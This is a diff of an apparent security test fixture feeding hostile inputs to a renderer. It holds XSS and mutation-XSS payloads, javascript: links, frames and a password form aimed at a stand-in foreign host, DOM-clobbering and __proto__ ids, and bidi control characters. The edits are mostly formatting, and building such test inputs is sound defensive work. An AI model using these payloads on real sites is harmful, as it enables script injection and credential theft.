@@ -33,7 +33,9 @@ AWAY = f"http://{FOREIGN}/x"
 """What would show that something was loaded."""
 NAME = f"<img src={AWAY} onerror={RUN}><script>{RUN}</script>\"'><svg onload={RUN}>{{{{{RUN}}}}}${{{RUN}}}\u202etxet"
 """Markup for wherever a name, a title or a value is shown; from the end on it would turn round what comes after it."""
-CLOBBERING = "main body title location cookie getElementById querySelector addEventListener attributes children nodeName"
+CLOBBERING = (
+    "main body title location cookie getElementById querySelector addEventListener attributes children nodeName"
+)
 
 MARKUP = "\n\n".join(
     [
@@ -50,14 +52,14 @@ MARKUP = "\n\n".join(
         f"<a href='javascript:{RUN}'>link</a> <a href='{AWAY}' target=_top ping={AWAY}>ping</a>",
         f"<svg><script>{RUN}</script><animate onbegin={RUN} attributeName=x dur=1s /></svg>",
         f"<svg><a xlink:href='javascript:{RUN}'><text y=20>svg</text></a></svg><svg><use href='data:,#x'/></svg>",
-        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={RUN}&gt;\">",
+        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
         f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
-        f"<noscript><p title=\"</noscript><img src=x onerror={RUN}>\"></noscript>",
-        f"<xmp><p title=\"</xmp><img src=x onerror={RUN}>\"></xmp><template><img src=x onerror={RUN}></template>",
-        f"<svg></p><style><a id=\"</style><img src=1 onerror={RUN}>\">",
+        f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
+        f'<xmp><p title="</xmp><img src=x onerror={RUN}>"></xmp><template><img src=x onerror={RUN}></template>',
+        f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
         f"<iframe src='{AWAY}'></iframe><iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
         f"<object data='{AWAY}'></object><embed src='{AWAY}'><portal src='{AWAY}'>",
-        f"<form action='{AWAY}'><input name=password autofocus onfocus={RUN}><button formaction='javascript:{RUN}'>Log in",
+        f"<form action='{AWAY}'><input name=password autofocus onfocus={RUN}><button formaction='javascript:{RUN}'>x",
         f"<div style='position:fixed;inset:0;background:url({AWAY})'>over all</div><style>*{{display:none}}</style>",
         f"<link rel=stylesheet href='{AWAY}.css'><meta http-equiv=refresh content='0;url={AWAY}'><base href='{AWAY}'>",
         f"<details open ontoggle={RUN}><summary>x</summary></details><video src=x onerror={RUN}><source onerror={RUN}>",
@@ -67,7 +69,7 @@ MARKUP = "\n\n".join(
         f'```html"><img src=x onerror={RUN}>\n</code></pre><script>{RUN}</script>\n```',
         f"`</code><img src=x onerror={RUN}>` ~~</del><svg onload={RUN}>~~",
         f"| <img src=x onerror={RUN}> | b |\n|---|:-:|\n| <script>{RUN}</script> | [x](javascript:{RUN}) |",
-        f"http://{FOREIGN}/<img/src=x/onerror={RUN}> www.{FOREIGN}/\"onclick={RUN} ann@{FOREIGN}",
+        f'http://{FOREIGN}/<img/src=x/onerror={RUN}> www.{FOREIGN}/"onclick={RUN} ann@{FOREIGN}',
         "\u202eright to left and never back \u2066isolated \u200f\u200b\ufeff\x00\ud7ff a\u0300\u0301" + "\u0301" * 200,
         f"<plaintext><script>{RUN}</script>",
         f"the end, unclosed\n\n```\n<script>{RUN}</script>",
@@ -130,7 +132,9 @@ async def names(task: Task) -> AsyncIterator[Envelope]:
 def _graph() -> list[GraphOp]:
     ids = [NAME, "__proto__", "constructor", "main", "graph-inspector", "*", "#x, [id]", "toString"]
     nodes = [
-        Node(id=id_, label=NAME if at % 2 else "constructor", key=f"{NAME}{at}", props={"name": NAME, "__proto__": NAME})
+        Node(
+            id=id_, label=NAME if at % 2 else "constructor", key=f"{NAME}{at}", props={"name": NAME, "__proto__": NAME}
+        )
         for at, id_ in enumerate(ids)
     ]
     edges = [
